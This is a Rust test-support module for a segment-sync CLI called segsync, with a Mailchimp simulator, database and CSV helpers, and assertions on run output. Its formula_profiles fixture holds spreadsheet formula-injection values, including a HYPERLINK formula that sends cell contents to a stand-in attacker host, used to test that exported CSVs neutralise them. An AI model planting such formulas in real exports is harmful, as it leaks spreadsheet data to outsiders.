//! What every end-to-end test needs: a Mailchimp simulator running in this process (on its
//! own tokio runtime, so tests stay plain blocking `#[test]`s that start `segsync` as a child
//! process), a temporary home folder with helpers that run `segsync` commands and keep every
//! byte they printed, and small realistic profile sets written as CSV.

#![allow(dead_code)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use mailchimp_sim::{CountersView, ListView, MemberView, RunningSim, Settings, SimConfig, Status};
use serde_json::{json, Value};
use tempfile::TempDir;

/// The environment variable the API key travels in, to `segsync connection add` only.
pub const KEY_ENV: &str = "SEGSYNC_E2E_MAILCHIMP_KEY";

/// The name of the connection and export every test uses.
pub const CONNECTION: &str = "mc";
pub const EXPORT: &str = "newsletter";

// --- PostgreSQL ---

#[path = "../../support/pg.rs"]
mod pg_support;
pub use pg_support::TestDb;

/// Writes `profiles` into a new table `crm.customers` of `db`, with the columns of the CSV
/// the other tests import (lifetime_value as numeric, updated_at as timestamptz).
pub fn write_pg_table(db: &TestDb, profiles: &[Profile]) {
    let mut pg = db.client();
    pg.batch_execute(
        "CREATE SCHEMA crm;
         CREATE TABLE crm.customers (
             customer_id text PRIMARY KEY, email text, first_name text, last_name text,
             city text, country text, lifetime_value numeric, updated_at timestamptz)",
    )
    .expect("create crm.customers");
    for p in profiles {
        pg.execute(
            "INSERT INTO crm.customers VALUES ($1, $2, $3, $4, $5, $6, $7::float8::numeric, $8::text::timestamptz)",
            &[&p.id, &p.email, &p.first, &p.last, &p.city, &p.country, &p.ltv, &p.updated_at],
        )
        .expect("insert a customer");
    }
}

// --- MySQL / MariaDB ---

#[path = "../../support/mysql.rs"]
mod mysql_support;
#[allow(unused_imports)]
pub use mysql_support::{MyTestDb, READER_PASSWORD};

/// Writes `profiles` into a new table `customers` of `db`, with the columns of the CSV the
/// other tests import (lifetime_value as DECIMAL, updated_at as DATETIME), in batches.
pub fn write_mysql_table(db: &MyTestDb, profiles: &[Profile]) {
    use mysql::prelude::Queryable;
    let mut conn = db.conn();
    conn.query_drop(
        "CREATE TABLE customers (
             customer_id VARCHAR(20) PRIMARY KEY, email VARCHAR(200), first_name VARCHAR(100),
             last_name VARCHAR(100), city VARCHAR(100), country CHAR(2),
             lifetime_value DECIMAL(10,2), updated_at DATETIME NULL
         ) CHARACTER SET utf8mb4",
    )
    .expect("create customers");
    for chunk in profiles.chunks(1000) {
        let mut sql = String::from("INSERT INTO customers VALUES ");
        let mut values: Vec<mysql::Value> = Vec::with_capacity(chunk.len() * 8);
        for (i, p) in chunk.iter().enumerate() {
            if i > 0 {
                sql.push(',');
            }
            sql.push_str("(?, ?, ?, ?, ?, ?, ?, ?)");
            values.extend([
                p.id.clone().into(),
                p.email.clone().into(),
                p.first.clone().into(),
                p.last.clone().into(),
                p.city.clone().into(),
                p.country.clone().into(),
                p.ltv.into(),
                p.updated_at.trim_end_matches('Z').replace('T', " ").into(),
            ]);
        }
        conn.exec_drop(sql, values).expect("insert customers");
    }
}

// --- the simulator ---

/// A simulator with one account, serving on a free port from its own runtime.
pub struct Sim {
    rt: tokio::runtime::Runtime,
    running: Option<RunningSim>,
    pub key: String,
    http: reqwest::Client,
}

impl Sim {
    pub fn start() -> Sim {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .expect("a tokio runtime");
        let running = rt
            .block_on(RunningSim::start(SimConfig::default(), "127.0.0.1:0"))
            .expect("the simulator starts");
        let key = running.add_account();
        Sim {
            rt,
            running: Some(running),
            key,
            http: reqwest::Client::new(),
        }
    }

    fn sim(&self) -> &RunningSim {
        self.running.as_ref().expect("the simulator runs")
    }

    pub fn api_url(&self) -> String {
        self.sim().api_url()
    }

    /// A new audience of the account; its id.
    pub fn new_list(&self, name: &str) -> String {
        self.sim().create_list(&self.key, name, false)
    }

    pub fn view(&self, list: &str) -> ListView {
        self.sim().list_view(list).expect("the audience exists")
    }

    pub fn counters(&self) -> CountersView {
        self.sim().counters()
    }

    pub fn settings(&self, change: impl FnOnce(&mut Settings)) {
        let mut s = self.sim().settings();
        change(&mut s);
        self.sim()
            .set_settings(s)
            .expect("valid simulator settings");
    }

    fn call(
        &self,
        method: reqwest::Method,
        url: String,
        body: Option<Value>,
        auth: bool,
    ) -> (u16, Value) {
        self.rt.block_on(async {
            let mut req = self.http.request(method, url);
            if auth {
                req = req.basic_auth("e2e", Some(&self.key));
            }
            if let Some(b) = body {
                req = req.json(&b);
            }
            let resp = req.send().await.expect("the simulator answers");
            let status = resp.status().as_u16();
            let text = resp.text().await.unwrap_or_default();
            (status, serde_json::from_str(&text).unwrap_or(Value::Null))
        })
    }

    /// Ends every "signed up to a lot of lists very recently" refusal begun so far (the
    /// pessimistic profile refuses 1% of new addresses that way for 60 s), as the wait before
    /// a user's next run would: those addresses are taken from now on.
    pub fn lapse_recent_signups(&self) {
        self.sim().lapse_recent_signups();
    }

    /// How many addresses were refused so far as "signed up to a lot of lists very recently"
    /// by the share the simulator draws (none under the default profile).
    pub fn recent_signups_refused(&self) -> u64 {
        self.sim().recent_signups_refused() as u64
    }

    /// Whether Mailchimp would now refuse `email` as a new member for a while ("signed up to
    /// a lot of lists very recently"): a run can then only defer it.
    pub fn refuses_for_now(&self, email: &str) -> bool {
        self.sim().refuses_recent_signup(email)
    }

    /// A call to the Mailchimp API (`/3.0` + `path`) with the account's key.
    pub fn api(&self, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
        let m = reqwest::Method::from_bytes(method.as_bytes()).expect("an HTTP method");
        self.call(m, format!("{}{path}", self.api_url()), body, true)
    }

    /// A call to the admin API (`/_sim/...`).
    pub fn admin(&self, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
        let m = reqwest::Method::from_bytes(method.as_bytes()).expect("an HTTP method");
        self.call(m, format!("{}{path}", self.sim().base_url()), body, false)
    }

    /// What only Mailchimp can do: a member unsubscribes (or bounces), through the admin API.
    pub fn force_status(&self, list: &str, email: &str, status: &str) {
        let (code, body) = self.admin(
            "POST",
            &format!("/_sim/lists/{list}/members/{email}/status"),
            Some(json!({ "status": status })),
        );
        assert!(
            (200..300).contains(&code),
            "forcing {email} to {status}: {code} {body}"
        );
    }

    /// A contact that came from elsewhere (a signup form, another tool), added through the
    /// Mailchimp API with its own tags.
    pub fn add_member(&self, list: &str, email: &str, status: &str, merge: Value, tags: &[&str]) {
        let (code, body) = self.api(
            "POST",
            &format!("/lists/{list}/members"),
            Some(json!({ "email_address": email, "status": status, "merge_fields": merge, "tags": tags })),
        );
        assert_eq!(code, 200, "adding {email}: {body}");
    }
}

impl Drop for Sim {
    fn drop(&mut self) {
        if let Some(s) = self.running.take() {
            self.rt.block_on(s.shutdown());
        }
    }
}

/// One member of an audience by address (any case).
pub fn member<'a>(view: &'a ListView, email: &str) -> &'a MemberView {
    find(view, email)
        .unwrap_or_else(|| panic!("{email} is in the audience; it holds {:?}", emails(view)))
}

pub fn find<'a>(view: &'a ListView, email: &str) -> Option<&'a MemberView> {
    view.members
        .iter()
        .find(|m| m.email_address.eq_ignore_ascii_case(email))
}

pub fn emails(view: &ListView) -> Vec<String> {
    let mut v: Vec<String> = view
        .members
        .iter()
        .map(|m| m.email_address.clone())
        .collect();
    v.sort();
    v
}

/// A merge field's value as text ("" when empty).
pub fn merge(m: &MemberView, tag: &str) -> String {
    match m.merge_fields.get(tag) {
        Some(Value::String(s)) => s.clone(),
        Some(Value::Null) | None => String::new(),
        Some(other) => other.to_string(),
    }
}

/// What a user reads off an audience: per address, status, the merge fields segsync maps,
/// and tags.
pub type Holding = BTreeMap<String, (Status, BTreeMap<String, String>, Vec<String>)>;

pub fn holding(view: &ListView, tags: &[&str]) -> Holding {
    view.members
        .iter()
        .map(|m| {
            let fields = tags.iter().map(|t| (t.to_string(), merge(m, t))).collect();
            (m.email_address.clone(), (m.status, fields, m.tags.clone()))
        })
        .collect()
}

// --- profiles ---

/// A customer profile, as the CSV the tests import holds it.
#[derive(Clone, Debug)]
pub struct Profile {
    pub id: String,
    pub email: String,
    pub first: String,
    pub last: String,
    pub city: String,
    pub country: String,
    pub ltv: f64,
    pub updated_at: String,
}

impl Profile {
    pub fn new(
        id: &str,
        email: &str,
        first: &str,
        last: &str,
        city: &str,
        country: &str,
        ltv: f64,
    ) -> Profile {
        Profile {
            id: id.into(),
            email: email.into(),
            first: first.into(),
            last: last.into(),
            city: city.into(),
            country: country.into(),
            ltv,
            updated_at: "2026-01-15T09:30:00Z".into(),
        }
    }

    /// In the "high_value" segment (tag "High value").
    pub fn high_value(&self) -> bool {
        self.ltv >= 500.0
    }

    /// In the "romania" segment (tag "romania").
    pub fn romanian(&self) -> bool {
        self.country == "RO"
    }

    /// The tags the standard export gives this profile, sorted as the simulator lists them.
    pub fn tags(&self) -> Vec<String> {
        let mut t = Vec::new();
        if self.high_value() {
            t.push(HIGH_VALUE_TAG.to_string());
        }
        if self.romanian() {
            t.push("romania".to_string());
        }
        t.sort();
        t
    }
}

/// Profiles whose keys and addresses start like spreadsheet formulas, all refused (none is
/// an address).
pub fn formula_profiles() -> Vec<Profile> {
    let p = |id: &str, email: &str| Profile::new(id, email, "Eve", "Mallory", "Iași", "RO", 900.0);
    vec![
        p(
            "=1+1",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"details\")",
        ),
        p("+SUM(1)", "+SUM(1)"),
        p("-2+3", "@SUM(1)"),
        p("@cmd", "-2+3"),
        p("\tTAB", "\t=1+1"),
        p("\rCR", "\r=1+1"),
    ]
}

/// Checks a CSV of run errors: no cell starts like a spreadsheet formula, and the formula
/// profiles' keys and addresses are there, each behind a single quote.
pub fn assert_spreadsheet_safe(csv_text: &str) {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv_text.as_bytes());
    let mut cells = Vec::new();
    for rec in r.records() {
        let rec = rec.expect("a CSV record");
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would evaluate: {cell:?} in\n{csv_text}"
            );
            cells.push(cell.to_string());
        }
    }
    for want in [
        "'=1+1",
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"details\")",
        "'+SUM(1)",
        "'-2+3",
        "'@SUM(1)",
        "'@cmd",
    ] {
        assert!(
            cells.iter().any(|c| c == want),
            "{want:?} in the CSV:\n{csv_text}"
        );
    }
}

pub const HIGH_VALUE_TAG: &str = "High value";

pub fn write_csv(path: &Path, profiles: &[Profile]) {
    let mut w = csv::Writer::from_path(path).expect("a CSV file");
    w.write_record([
        "customer_id",
        "email",
        "first_name",
        "last_name",
        "city",
        "country",
        "lifetime_value",
        "updated_at",
    ])
    .unwrap();
    for p in profiles {
        w.write_record([
            &p.id,
            &p.email,
            &p.first,
            &p.last,
            &p.city,
            &p.country,
            &format!("{:.2}", p.ltv),
            &p.updated_at,
        ])
        .unwrap();
    }
    w.flush().unwrap();
}

const FIRST: &[&str] = &[
    "Ana", "Ștefan", "Hélène", "Raúl", "Jürgen", "Chloé", "Ioana", "Matteo", "Zoë", "Bogdan",
    "Léa", "Mihai", "Giulia", "Søren",
];
const LAST: &[&str] = &[
    "Popescu",
    "Moreau",
    "López",
    "Müller",
    "Rossi",
    "Ionescu",
    "Dubois",
    "Gheorghiu",
    "Bianchi",
    "Schäfer",
    "Nowak",
    "Rousseau",
];
const ASCII_FIRST: &[&str] = &[
    "ana", "stefan", "helene", "raul", "jurgen", "chloe", "ioana", "matteo", "zoe", "bogdan",
    "lea", "mihai", "giulia", "soren",
];
const ASCII_LAST: &[&str] = &[
    "popescu",
    "moreau",
    "lopez",
    "muller",
    "rossi",
    "ionescu",
    "dubois",
    "gheorghiu",
    "bianchi",
    "schafer",
    "nowak",
    "rousseau",
];
const DOMAINS: &[&str] = &[
    "gmail.com",
    "yahoo.ro",
    "orange.fr",
    "libero.it",
    "outlook.com",
    "web.de",
    "proton.me",
];
const PLACES: &[(&str, &str)] = &[
    ("Cluj-Napoca", "RO"),
    ("Lyon", "FR"),
    ("Iași", "RO"),
    ("Milano", "IT"),
    ("München", "DE"),
    ("Timișoara", "RO"),
    ("Sevilla", "ES"),
];

/// The customer C001, a Romanian big spender, who appears in several scenarios.
pub fn ana() -> Profile {
    Profile::new(
        "C001",
        "ana.popescu@gmail.com",
        "Ana",
        "Popescu",
        "Cluj-Napoca",
        "RO",
        820.0,
    )
}

/// The customer C002, a French big spender, who appears in several scenarios.
pub fn helene() -> Profile {
    Profile::new(
        "C002",
        "helene.rousseau@orange.fr",
        "Hélène",
        "Rousseau",
        "Lyon",
        "FR",
        640.0,
    )
}

/// The customer C003, a Romanian small spender, who appears in several scenarios.
pub fn stefan() -> Profile {
    Profile::new(
        "C003",
        "stefan.gheorghiu@yahoo.ro",
        "Ștefan",
        "Gheorghiu",
        "Iași",
        "RO",
        45.0,
    )
}

/// `n` deterministic, realistic profiles (customer ids C00000..): accented names, real-world
/// domains, a few countries, lifetime values spread over 0..1000.
pub fn people(n: usize) -> Vec<Profile> {
    (0..n)
        .map(|i| {
            let (f, l) = (i % FIRST.len(), (i / FIRST.len()) % LAST.len());
            let (city, country) = PLACES[(i * 3 + i / 5) % PLACES.len()];
            let plus = if i % 11 == 3 { "+shop" } else { "" };
            Profile::new(
                &format!("C{i:05}"),
                &format!(
                    "{}.{}{plus}{i}@{}",
                    ASCII_FIRST[f],
                    ASCII_LAST[l],
                    DOMAINS[i % DOMAINS.len()]
                ),
                FIRST[f],
                LAST[l],
                city,
                country,
                ((i * 379) % 1000) as f64 + 0.5,
            )
        })
        .collect()
}

/// Per lower-cased address, what the standard export should leave in an audience that held
/// nothing before: status, FNAME/LNAME/CITY, tags.
pub fn expected(profiles: &[Profile], status: Status) -> Holding {
    profiles
        .iter()
        .filter(|p| p.high_value() || p.romanian())
        .map(|p| {
            let fields = BTreeMap::from([
                ("CITY".to_string(), p.city.clone()),
                ("FNAME".to_string(), p.first.clone()),
                ("LNAME".to_string(), p.last.clone()),
            ]);
            (p.email.to_lowercase(), (status, fields, p.tags()))
        })
        .collect()
}

pub const FIELDS: &[&str] = &["CITY", "FNAME", "LNAME"];

// --- segsync, as a child process ---

/// What one `segsync` command did.
#[derive(Debug)]
pub struct Out {
    pub code: i32,
    pub stdout: String,
    pub stderr: String,
}

impl Out {
    fn from(o: Output) -> Out {
        Out {
            code: o.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
        }
    }

    /// Both streams, for messages that may go either way.
    pub fn text(&self) -> String {
        format!("{}{}", self.stdout, self.stderr)
    }
}

/// A home folder of its own, with the simulator it talks to.
pub struct Session {
    pub dir: TempDir,
    pub api_url: String,
    key: String,
    /// Everything every command printed (to check that no secret ever shows).
    transcript: Mutex<Vec<String>>,
    /// Environment every command gets (e.g. `SEGSYNC_LOG`).
    env: Mutex<Vec<(String, String)>>,
    /// Commands may send requests to loopback addresses (the simulator listens on
    /// 127.0.0.1): `SEGSYNC_ALLOW_PRIVATE_TARGETS=1`, unless a test turns it off.
    private_targets: std::sync::atomic::AtomicBool,
}

static BIN: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();

/// Where the `segsync` binary is: Cargo tells integration tests; the example binaries that
/// reuse this module (`examples/torture.rs`, `examples/soak.rs`) set it with [`set_bin`].
pub fn bin() -> PathBuf {
    BIN.get()
        .cloned()
        .or_else(|| option_env!("CARGO_BIN_EXE_segsync").map(PathBuf::from))
        .expect(
            "the segsync binary: cargo sets CARGO_BIN_EXE_segsync for tests; examples call set_bin",
        )
}

pub fn set_bin(path: PathBuf) {
    BIN.set(path).expect("set_bin is called once, first");
}

impl Session {
    pub fn new(sim: &Sim) -> Session {
        Session {
            dir: tempfile::tempdir().expect("a temporary folder"),
            api_url: sim.api_url(),
            key: sim.key.clone(),
            transcript: Mutex::new(Vec::new()),
            env: Mutex::new(Vec::new()),
            private_targets: std::sync::atomic::AtomicBool::new(true),
        }
    }

    /// Later commands run as an installation that sends requests to public addresses only
    /// (segsync's default; the tests otherwise allow private targets to reach the simulator).
    pub fn forbid_private_targets(&self) {
        self.private_targets
            .store(false, std::sync::atomic::Ordering::Relaxed);
    }

    pub fn home(&self) -> &Path {
        self.dir.path()
    }

    pub fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// `segsync ARGS` with this home (through `SEGSYNC_HOME`), nothing inherited that could
    /// change its behaviour, and never the API key. Requests may go to the simulator on
    /// 127.0.0.1 (`SEGSYNC_ALLOW_PRIVATE_TARGETS=1`) unless [`Session::forbid_private_targets`].
    pub fn command(&self, args: &[&str]) -> Command {
        let mut c = Command::new(bin());
        c.args(args)
            .env("SEGSYNC_HOME", self.home())
            .env_remove("SEGSYNC_MASTER_KEY")
            .env_remove(KEY_ENV)
            .env_remove("SEGSYNC_LOG")
            .env_remove("SEGSYNC_ALLOW_PRIVATE_TARGETS")
            .stdin(Stdio::null());
        if self
            .private_targets
            .load(std::sync::atomic::Ordering::Relaxed)
        {
            c.env("SEGSYNC_ALLOW_PRIVATE_TARGETS", "1");
        }
        for (k, v) in self.env.lock().unwrap().iter() {
            c.env(k, v);
        }
        c
    }

    /// Gives every later command `name=value` in its environment.
    pub fn set_env(&self, name: &str, value: &str) {
        self.env
            .lock()
            .unwrap()
            .push((name.to_string(), value.to_string()));
    }

    fn record(&self, args: &[&str], out: &Out) {
        self.transcript.lock().unwrap().push(format!(
            "$ segsync {}\n{}{}",
            args.join(" "),
            out.stdout,
            out.stderr
        ));
    }

    pub fn run_command(&self, args: &[&str], mut c: Command) -> Out {
        let out = Out::from(c.output().expect("segsync starts"));
        self.record(args, &out);
        out
    }

    /// Runs `segsync ARGS` and waits.
    pub fn sh(&self, args: &[&str]) -> Out {
        self.run_command(args, self.command(args))
    }

    /// Runs `segsync ARGS` and requires exit code `code`.
    pub fn expect(&self, code: i32, args: &[&str]) -> Out {
        let out = self.sh(args);
        assert_eq!(
            out.code,
            code,
            "segsync {} exited {} (wanted {code})\nstdout:\n{}\nstderr:\n{}",
            args.join(" "),
            out.code,
            out.stdout,
            out.stderr
        );
        out
    }

    pub fn ok(&self, args: &[&str]) -> Out {
        self.expect(0, args)
    }

    /// Starts `segsync ARGS` without waiting; its output is collected by [`Session::wait`].
    pub fn spawn(&self, args: &[&str]) -> Child {
        let mut c = self.command(args);
        c.stdout(Stdio::piped()).stderr(Stdio::piped());
        c.spawn().expect("segsync starts")
    }

    pub fn wait(&self, args: &[&str], child: Child) -> Out {
        let out = Out::from(child.wait_with_output().expect("segsync ends"));
        self.record(args, &out);
        out
    }

    pub fn transcript(&self) -> String {
        self.transcript.lock().unwrap().join("\n")
    }

    /// Writes `profiles` as CSV and imports them (replacing what was there).
    pub fn import(&self, profiles: &[Profile]) {
        let csv = self.path("profiles.csv");
        write_csv(&csv, profiles);
        self.ok(&[
            "profiles",
            "import",
            csv.to_str().unwrap(),
            "--key",
            "customer_id",
        ]);
    }

    /// The two segments of the standard export.
    pub fn segments(&self) {
        self.ok(&[
            "segments",
            "add",
            "high_value",
            "--where",
            "lifetime_value >= 500",
        ]);
        self.ok(&["segments", "add", "romania", "--where", "country = 'RO'"]);
    }

    /// `segsync connection add mc --api-key-env VAR --base-url SIM --accept-privacy-terms`,
    /// the key in the child's environment only.
    pub fn connect(&self) -> Out {
        let args = [
            "connection",
            "add",
            CONNECTION,
            "--api-key-env",
            KEY_ENV,
            "--base-url",
            &self.api_url,
            "--display-name",
            "Mailchimp (simulator)",
            "--accept-privacy-terms",
        ];
        let mut c = self.command(&args);
        c.env(KEY_ENV, &self.key);
        let out = self.run_command(&args, c);
        assert_eq!(out.code, 0, "connection add: {}", out.text());
        out
    }

    /// `segsync export add newsletter` for the standard mapping and segments, plus `extra`.
    pub fn export_args(&self, list: &str, extra: &[&str]) -> Vec<String> {
        let mut args: Vec<String> = [
            "export",
            "add",
            EXPORT,
            "--connection",
            CONNECTION,
            "--audience",
            list,
            "--email-field",
            "email",
            "--first-name",
            "first_name",
            "--last-name",
            "last_name",
            "--merge",
            "CITY=city",
            "--create-merge-fields",
            "--segment",
            "high_value",
            "--segment",
            "romania",
            "--tag",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        args.push(format!("high_value={HIGH_VALUE_TAG}"));
        args.extend(extra.iter().map(|s| s.to_string()));
        args
    }

    pub fn add_export(&self, list: &str, extra: &[&str]) -> Out {
        let args = self.export_args(list, extra);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        self.ok(&args)
    }

    /// Everything up to the first run: profiles, segments, connection, export.
    pub fn setup(&self, list: &str, profiles: &[Profile], extra: &[&str]) {
        self.import(profiles);
        self.segments();
        self.connect();
        self.add_export(list, extra);
    }

    /// `segsync run newsletter --quiet`, requiring exit code `code`.
    pub fn run_export(&self, code: i32) -> Out {
        self.expect(code, &["run", EXPORT, "--quiet"])
    }

    /// `segsync runs show RUN`.
    pub fn show(&self, run: i64) -> String {
        self.ok(&["runs", "show", &run.to_string()]).stdout
    }

    /// `segsync runs show RUN --json`.
    pub fn show_json(&self, run: i64) -> Value {
        let out = self.ok(&["runs", "show", &run.to_string(), "--json"]);
        serde_json::from_str(&out.stdout).expect("runs show --json prints JSON")
    }

    /// `segsync runs errors RUN --csv`, parsed: (profile_key, email, reason) rows.
    pub fn errors_csv(&self, run: i64) -> Vec<(String, String, String)> {
        let out = self.ok(&["runs", "errors", &run.to_string(), "--csv"]);
        let mut r = csv::Reader::from_reader(out.stdout.as_bytes());
        assert_eq!(
            r.headers().unwrap().iter().collect::<Vec<_>>(),
            ["profile_key", "email", "reason"]
        );
        r.records()
            .map(|rec| rec.unwrap())
            .map(|rec| (rec[0].to_string(), rec[1].to_string(), rec[2].to_string()))
            .collect()
    }

    /// The number of the newest run.
    pub fn last_run(&self) -> i64 {
        let out = self.ok(&["runs", "--json", "--limit", "1"]);
        let runs: Value = serde_json::from_str(&out.stdout).expect("runs --json prints JSON");
        runs[0]["id"]
            .as_i64()
            .unwrap_or_else(|| panic!("a run in {runs}"))
    }

    /// Runs the export as a user does where Mailchimp may refuse a new address for now ("has
    /// signed up to a lot of lists very recently"; the pessimistic profile draws 1% of new
    /// addresses): `segsync run newsletter --quiet EXTRA`, and while a run deferred records,
    /// the refusals are let run out ([`Sim::lapse_recent_signups`], the wait before a user's
    /// next run) and the export runs again, three runs at most. Each run that deferred
    /// records exits 3 (succeeded with errors), counts them as deferred, never as failed, and
    /// lists each of them as `deferred: ...` among its records not sent; the last run
    /// defers nothing and exits `code`. Without such a refusal this is one run, as
    /// [`Session::run_export`].
    pub fn run_settled(&self, sim: &Sim, code: i32, extra: &[&str]) -> Settled {
        let mut args = vec!["run", EXPORT, "--quiet"];
        args.extend_from_slice(extra);
        let mut settled = Settled {
            runs: Vec::new(),
            outs: Vec::new(),
        };
        loop {
            let out = self.sh(&args);
            let run = self.show_json(self.last_run());
            let deferred = count(&run, "deferred");
            let id = run["id"].as_i64().expect("a run id");
            let wanted = if deferred > 0 { 3 } else { code };
            assert_eq!(
                out.code,
                wanted,
                "segsync {} (run {id}, {deferred} deferred) exited {} (wanted {wanted})\nstdout:\n{}\nstderr:\n{}",
                args.join(" "),
                out.code,
                out.stdout,
                out.stderr
            );
            if deferred > 0 {
                assert_eq!(run["outcome"], "succeeded_with_errors", "{run}");
                let listed = self
                    .errors_csv(id)
                    .iter()
                    .filter(|e| e.2.starts_with("deferred: "))
                    .count() as u64;
                assert_eq!(
                    listed, deferred,
                    "run {id} lists each deferred record once: {run}"
                );
            }
            settled.runs.push(run);
            settled.outs.push(out);
            if deferred == 0 {
                return settled;
            }
            assert!(
                settled.runs.len() < 3,
                "records still deferred after Mailchimp's refusals ran out: {:?}",
                settled.runs
            );
            sim.lapse_recent_signups();
        }
    }

    /// The profile keys of the refusals for good the standard export remembers
    /// (`segsync refusals list --json`).
    pub fn remembered_keys(&self) -> std::collections::BTreeSet<String> {
        let out = self.ok(&["refusals", "list", "--export", EXPORT, "--json"]);
        let list: Value = serde_json::from_str(&out.stdout).expect("refusals list --json");
        list.as_array()
            .expect("a list")
            .iter()
            .map(|r| r["profile_key"].as_str().unwrap_or_default().to_string())
            .collect()
    }

    /// The outcome `segsync runs` lists for RUN.
    pub fn listed_outcome(&self, run: i64) -> String {
        let out = self.ok(&["runs"]);
        let line = out
            .stdout
            .lines()
            .find(|l| l.split_whitespace().next() == Some(run.to_string().as_str()))
            .unwrap_or_else(|| panic!("run {run} in `segsync runs`:\n{}", out.stdout));
        // People read the outcome in words ("succeeded with errors"), as in the web UI;
        // returned as the API spells it.
        assert!(!line.contains("_with_"), "an outcome in words: {line}");
        let words = [
            "succeeded with errors",
            "succeeded",
            "failed",
            "interrupted",
            "cancelled",
            "running",
        ];
        let listed = words
            .iter()
            .find(|w| line.contains(&format!(" {w} ")))
            .unwrap_or_else(|| panic!("an outcome in {line}"));
        listed.replace(' ', "_")
    }
}

/// The runs of [`Session::run_settled`]: the first, and those that sent what an earlier one
/// deferred.
#[derive(Debug)]
pub struct Settled {
    /// `runs show --json` of each run, in order.
    pub runs: Vec<Value>,
    /// What each run printed.
    pub outs: Vec<Out>,
}

impl Settled {
    pub fn first(&self) -> &Value {
        &self.runs[0]
    }

    pub fn last(&self) -> &Value {
        self.runs.last().expect("a run")
    }

    pub fn first_id(&self) -> i64 {
        self.first()["id"].as_i64().expect("a run id")
    }

    pub fn last_id(&self) -> i64 {
        self.last()["id"].as_i64().expect("a run id")
    }

    /// Records the first run deferred (0 under the default profile).
    pub fn deferred(&self) -> u64 {
        count(self.first(), "deferred")
    }

    /// A count summed over the runs.
    pub fn sum(&self, name: &str) -> u64 {
        self.runs.iter().map(|r| count(r, name)).sum()
    }

    /// The outcome the first run must have: succeeded, unless it deferred records.
    pub fn first_outcome(&self, clean: &str) -> String {
        if self.deferred() > 0 {
            "succeeded_with_errors".into()
        } else {
            clean.into()
        }
    }
}

/// A count from `runs show` JSON.
pub fn count(run: &Value, name: &str) -> u64 {
    run["counts"][name]
        .as_u64()
        .unwrap_or_else(|| panic!("counts.{name} in {run}"))
}

/// Polls `cond` every few milliseconds until it holds; panics after `deadline`.
pub fn wait_until(what: &str, deadline: Duration, mut cond: impl FnMut() -> bool) {
    let start = Instant::now();
    while !cond() {
        assert!(start.elapsed() < deadline, "timed out waiting until {what}");
        std::thread::sleep(Duration::from_millis(3));
    }
}
